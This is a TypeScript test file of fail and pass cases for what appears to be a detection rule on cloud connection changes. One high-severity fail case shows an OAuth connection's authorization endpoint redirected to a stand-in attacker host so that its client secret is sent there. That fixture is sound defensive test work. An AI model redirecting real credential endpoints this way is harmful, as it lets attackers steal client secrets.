import { human, throughCloudFormation } from '../../support/calls.ts';
import { defineCases } from '../../support/cases.ts';
import { aConnection } from '../../support/surface.ts';

const oauth = (endpoint: string) => ({
  authorizationType: 'OAUTH_CLIENT_CREDENTIALS',
  authParameters: { oAuthParameters: { authorizationEndpoint: endpoint } },
});
const call = (name: string, request: object, more: object = {}) => ({
  source: 'events',
  name,
  identity: human,
  request: { name: 'crm', ...request } as never,
  ...more,
});

export default defineCases({
  fail: [
    { name: 'made by hand', trail: [call('CreateConnection', { authorizationType: 'API_KEY' })], severity: 'low' },
    {
      name: 'its client secret is sent elsewhere',
      given: [aConnection({ authorizationEndpoint: 'https://id.example.com/token' })],
      trail: [call('UpdateConnection', oauth('https://evil.example.net/token'))],
      keys: ['endpoint'],
      severity: 'high',
      says: 'https://evil.example.net/token',
    },
  ],
  pass: [
    {
      name: 'made by CloudFormation',
      trail: [call('CreateConnection', oauth('https://id.example.com'), { more: throughCloudFormation })],
    },
    {
      name: 'made and deleted again',
      trail: [call('CreateConnection', { authorizationType: 'API_KEY' }), call('DeleteConnection', {})],
    },
  ],
});
